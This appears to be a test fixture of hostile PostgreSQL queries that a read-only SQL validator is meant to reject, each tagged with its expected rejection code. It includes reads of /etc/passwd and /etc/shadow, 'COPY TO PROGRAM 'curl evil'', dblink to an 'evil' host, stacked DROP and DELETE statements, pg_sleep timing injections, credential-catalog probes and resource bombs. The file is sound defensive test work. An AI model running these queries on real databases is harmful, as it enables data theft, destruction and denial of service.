-- [function.unknown] read a file
SELECT pg_read_file('/etc/passwd')
-- [function.unknown] read a file in FROM
SELECT * FROM pg_read_file('/etc/passwd') AS f
-- [function.qualified] read a file through the schema
SELECT pg_catalog.pg_read_file('/etc/passwd')
-- [function.qualified] read a folder through the schema in FROM
SELECT * FROM pg_catalog.pg_ls_dir('/') AS d(name)
-- [function.quoted] quoted function name
SELECT "pg_read_file"('/etc/passwd')
-- [function.quoted] quoted function name beside an allowed one
SELECT upper(name), "pg_sleep"(9) FROM orders
-- [function.unknown] mixed case
SELECT Pg_SlEeP(10) FROM orders
-- [function.unknown] sleep in WHERE
SELECT id FROM orders WHERE pg_sleep(5) IS NULL
-- [function.unknown] sleep in ORDER BY
SELECT id FROM orders ORDER BY pg_sleep(5)
-- [function.unknown] sleep in a CASE
SELECT CASE WHEN (SELECT 1) = 1 THEN pg_sleep(5) END FROM orders
-- [function.unknown] sleep in JOIN ON
SELECT o.id FROM orders o JOIN items i ON pg_sleep(1) IS NOT NULL
-- [function.unknown] sleep in LATERAL
SELECT * FROM orders, LATERAL pg_sleep(1) AS s
-- [function.unknown] sleep in a window
SELECT sum(1) OVER (ORDER BY pg_sleep(1)) FROM orders
-- [function.unknown] sleep in FILTER
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
-- [function.unknown] sleep in ROWS FROM
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(3)) AS x
-- [function.unknown] sleep in LIMIT
SELECT id FROM orders LIMIT (SELECT 1 FROM pg_sleep(3))
-- [function.unknown] sleep in VALUES
SELECT * FROM (VALUES (pg_sleep(1))) AS v(x)
-- [function.unknown] sleep in a CTE
WITH s AS (SELECT pg_sleep(1)) SELECT * FROM s
-- [function.unknown] sleep for an interval
SELECT pg_sleep_for('5 minutes')
-- [function.unknown] binary file
SELECT pg_read_binary_file('/etc/shadow')
-- [function.unknown] file facts
SELECT * FROM pg_stat_file('postgresql.conf')
-- [function.unknown] list folder
SELECT pg_ls_logdir()
-- [function.unknown] large object import
SELECT lo_import('/etc/passwd')
-- [function.unknown] large object export
SELECT lo_export(16403, '/tmp/x')
-- [function.unknown] large object write
SELECT lo_from_bytea(0, 'x')
-- [function.unknown] large object put
SELECT lo_put(1, 0, 'x')
-- [function.unknown] dblink
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
-- [function.unknown] dblink exec
SELECT dblink_exec('dbname=x', 'DROP TABLE orders')
-- [statement.kind] COPY to program
COPY orders TO PROGRAM 'curl evil'
-- [statement.kind] COPY from file
COPY orders FROM '/etc/passwd'
-- [function.unknown] set_config
SELECT set_config('app.org', 'x', false)
-- [function.unknown] current_setting
SELECT current_setting('data_directory')
-- [function.unknown] SQL as text to XML
SELECT query_to_xml('DELETE FROM orders', true, true, '')
-- [function.unknown] table to XML
SELECT table_to_xml('pg_authid', true, true, '')
-- [function.unknown] database to XML
SELECT database_to_xml(true, true, '')
-- [function.unknown] cursor to XML
SELECT cursor_to_xml('c', 1, true, true, '')
-- [function.unknown] nextval
SELECT nextval('orders_id_seq')
-- [function.unknown] setval
SELECT setval('orders_id_seq', 1)
-- [function.unknown] lastval
SELECT lastval()
-- [function.unknown] terminate backend
SELECT pg_terminate_backend(1)
-- [function.unknown] cancel backend
SELECT pg_cancel_backend(1)
-- [function.unknown] reload configuration
SELECT pg_reload_conf()
-- [function.unknown] advisory lock
SELECT pg_advisory_lock(1)
-- [function.unknown] advisory transaction lock
SELECT pg_try_advisory_xact_lock(1) FROM orders
-- [function.unknown] writes inside READ ONLY
SELECT pg_import_system_collations('pg_catalog'::text)
-- [function.unknown] logical message
SELECT pg_logical_emit_message(false, 'a', 'b')
-- [function.unknown] replication slot
SELECT pg_create_physical_replication_slot('x')
-- [function.unknown] notify
SELECT pg_notify('channel', 'payload')
-- [function.unknown] statistics query
SELECT * FROM ts_stat('SELECT to_tsvector(secret) FROM users')
-- [function.unknown] rewrite with a query
SELECT ts_rewrite('a'::tsquery, 'SELECT * FROM aliases')
-- [function.unknown] crosstab with a query
SELECT * FROM crosstab('SELECT 1,2,3') AS ct(a int, b int)
-- [function.unknown] user-defined function
SELECT delete_everything()
-- [function.unknown] version
SELECT version()
-- [node.CurrentUser] current user
SELECT current_user
-- [function.unknown] user without brackets
SELECT user FROM orders
-- [node.SessionUser] session user
SELECT session_user
-- [function.unknown] client address
SELECT inet_server_addr()
-- [function.unknown] privilege probe
SELECT has_table_privilege('orders', 'SELECT')
-- [function.unknown] source of a view
SELECT pg_get_viewdef('v'::text)
-- [function.unknown] comments
SELECT obj_description(1)
-- [function.unknown] transaction number
SELECT txid_current()
-- [function.unknown] seed
SELECT setseed(0.5)
-- [table.catalog] catalog table
SELECT relname FROM pg_class
-- [table.catalog] catalog table, qualified
SELECT * FROM pg_catalog.pg_authid
-- [table.catalog] catalog table, quoted
SELECT * FROM "pg_catalog"."pg_shadow"
-- [table.catalog] catalog table, upper case
SELECT * FROM PG_USER
-- [table.catalog] catalog table, aliased and joined
SELECT o.id, p.* FROM orders o CROSS JOIN pg_roles AS p
-- [table.catalog] catalog view in a subquery
SELECT id FROM orders WHERE id IN (SELECT oid FROM pg_database)
-- [table.catalog] information schema
SELECT table_name FROM information_schema.tables
-- [table.catalog] information schema, quoted
SELECT * FROM "information_schema"."columns"
-- [table.catalog] information schema, mixed case
SELECT * FROM Information_Schema.Tables
-- [table.catalog] statistics view
SELECT query FROM pg_stat_activity
-- [table.catalog] settings view
SELECT name FROM pg_settings
-- [table.catalog] large objects
SELECT data FROM pg_largeobject
-- [table.catalog] with the database name
SELECT * FROM shop.pg_catalog.pg_class
-- [table.catalog] toast
SELECT * FROM pg_toast.pg_toast_2619
-- [table.catalog] behind a CTE of the same name
WITH pg_user AS (SELECT 1) SELECT * FROM pg_user
-- [table.catalog] TABLE syntax in a union
SELECT usename FROM orders UNION ALL (SELECT usename FROM pg_shadow)
-- [node.ObjectIdentifier] cast to regclass
SELECT 'pg_authid'::regclass
-- [node.ObjectIdentifier] cast to regproc
SELECT CAST('pg_sleep' AS regproc)
-- [node.ObjectIdentifier] cast to regrole
SELECT 10::regrole
-- [node.ObjectIdentifier] quoted cast to regclass
SELECT 'orders'::"regclass"
-- [type.unknown] cast to a qualified type
SELECT '1'::pg_catalog.regclass
-- [type.unknown] cast to a type of the user
SELECT 'x'::evil_type
-- [node.Operator] operator of a schema
SELECT 1 OPERATOR(pg_catalog.+) 2
-- [node.Operator] operator of a schema in WHERE
SELECT id FROM orders WHERE id OPERATOR(public.===) 2
-- [statement.into] SELECT INTO
SELECT * INTO copy_of_orders FROM orders
-- [statement.into] SELECT INTO TEMP
SELECT id INTO TEMP t FROM orders
-- [node.Lock] FOR UPDATE
SELECT id FROM orders FOR UPDATE
-- [node.Lock] FOR SHARE
SELECT id FROM orders FOR SHARE SKIP LOCKED
-- [node.Lock] FOR NO KEY UPDATE
SELECT id FROM orders FOR NO KEY UPDATE
-- [node.Lock] lock in a subquery
SELECT * FROM (SELECT id FROM orders FOR UPDATE) AS o
-- [node.Delete] delete in a CTE
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone
-- [node.Update] update in a CTE
WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM u
-- [statement.into] insert in a CTE
WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i
-- [node.Delete] delete in a nested CTE
SELECT * FROM (WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone) AS x
-- [statement.many] two statements
SELECT 1; DROP TABLE orders
-- [statement.many] commit, then write
SELECT 1; COMMIT; DELETE FROM orders
-- [statement.many] statements behind a comment
SELECT 1 /* ; */; DELETE FROM orders --
-- [statement.kind] delete
DELETE FROM orders
-- [statement.kind] update behind a comment
/* SELECT */ UPDATE orders SET total = 0
-- [statement.kind] update behind a line comment
-- SELECT 1
UPDATE orders SET total = 0
-- [statement.kind] DO block
DO $$ BEGIN PERFORM pg_sleep(1); END $$
-- [statement.kind] EXPLAIN ANALYZE runs it
EXPLAIN ANALYZE DELETE FROM orders
-- [statement.kind] PREPARE
PREPARE p AS DELETE FROM orders
-- [statement.kind] EXECUTE
EXECUTE p
-- [statement.kind] SET ROLE
SET ROLE postgres
-- [statement.kind] SHOW
SHOW data_directory
-- [statement.kind] CALL
CALL wipe()
-- [statement.kind] TRUNCATE
TRUNCATE orders
-- [statement.kind] VALUES alone
VALUES (1), (2)
-- [statement.kind] TABLE alone
TABLE orders
-- [statement.kind] LISTEN
LISTEN x
-- [statement.kind] LOCK TABLE
LOCK TABLE orders
-- [statement.kind] DECLARE
DECLARE c CURSOR FOR SELECT 1
-- [statement.kind] backslash command
\! id
-- [statement.kind] MERGE
MERGE INTO orders USING x ON true WHEN MATCHED THEN DELETE
-- [name.variable] parameter
SELECT id FROM orders WHERE id = $1
-- [node.Placeholder] named parameter
SELECT id FROM orders WHERE id = :id
-- [node.UnicodeString] unicode escapes
SELECT U&'\0070g_sleep'
-- [text.syntax] unicode identifier
SELECT * FROM U&"pg\005fclass"
-- [node.ByteString] escape string
SELECT E'\x70g_sleep'
-- [size.series] series bomb
SELECT count(*) FROM generate_series(1, 1000000000)
-- [size.series] series of series
SELECT count(*) FROM generate_series(1, 1000) a, generate_series(1, 1000) b
-- [size.series] computed series
SELECT count(*) FROM generate_series(1, 10 ^ 9)
-- [size.series] series of seconds
SELECT count(*) FROM generate_series('2000-01-01'::timestamp, '2030-01-01'::timestamp, '1 second')
-- [size.series] series in SELECT
SELECT generate_series(1, 99999999) FROM orders
-- [size.text] huge repeat
SELECT repeat('x', 1000000000)
-- [size.text] computed repeat
SELECT repeat(name, id) FROM orders
-- [size.text] nested repeat
SELECT repeat(repeat('x', 10000), 10000)
-- [size.text] huge padding
SELECT lpad('x', 1000000000, 'y')
-- [size.text] huge width
SELECT format('%1000000000s', name) FROM orders
-- [size.type] huge type
SELECT CAST(name AS char(10000000)) FROM orders
-- [size.text] tower of replace
SELECT replace(replace(replace(replace('a','a','aaaaaaaaaa'),'a','aaaaaaaaaa'),'a','aaaaaaaaaa'),'a','aaaaaaaaaa')
-- [size.recursion] endless recursion
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
-- [size.recursion] recursion to a huge number
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 99999999999) SELECT max(n) FROM r
-- [size.recursion] condition that is no condition
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5 OR 1 = 1) SELECT max(n) FROM r
-- [text.syntax] back-ticks of another dialect
SELECT `password` `from` users
-- [node.Dot] function written as a field
SELECT (o).row_to_json FROM orders o
-- [function.unknown] XML
SELECT xmlelement(name x, name) FROM orders
-- [limit.offset] computed OFFSET
SELECT id FROM orders OFFSET (SELECT 5)
-- [function.unknown] XML query
SELECT xpath('/x', '<x/>'::text)
-- [text.character] zero-width character
SELECT id FROM or​ders
-- [part.field] a table as a list
SELECT id FROM orders WHERE id IN items
-- [function.unknown] behind a backslash that is no escape
SELECT '\', pg_sleep(1) --'
-- [function.unknown] behind a quoted name
SELECT "a""b", pg_sleep(1) FROM orders
-- [node.Lock] lock in a CTE
WITH x AS (SELECT id FROM orders FOR UPDATE) SELECT * FROM x
-- [function.unknown] in an aggregate's ORDER BY
SELECT array_agg(id ORDER BY pg_sleep(1)) FROM orders
-- [function.unknown] in GROUP BY
SELECT count(*) FROM orders GROUP BY pg_sleep(1)
-- [function.unknown] in a recursive step
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5 AND pg_sleep(1) IS NULL) SELECT * FROM r
-- [type.unknown] transaction number type
SELECT '1'::xid8
-- [function.unknown] default of a window
SELECT lag(id, 1, pg_backend_pid()) OVER () FROM orders
-- [function.unknown] in DISTINCT ON
SELECT DISTINCT ON (pg_sleep(1)) id FROM orders
-- [function.unknown] in an array
SELECT ARRAY[pg_sleep(1)] FROM orders
-- [function.unknown] in a subscript
SELECT (ARRAY[1])[pg_backend_pid()] FROM orders
-- [function.unknown] in OFFSET
SELECT id FROM orders LIMIT 1 OFFSET pg_backend_pid()
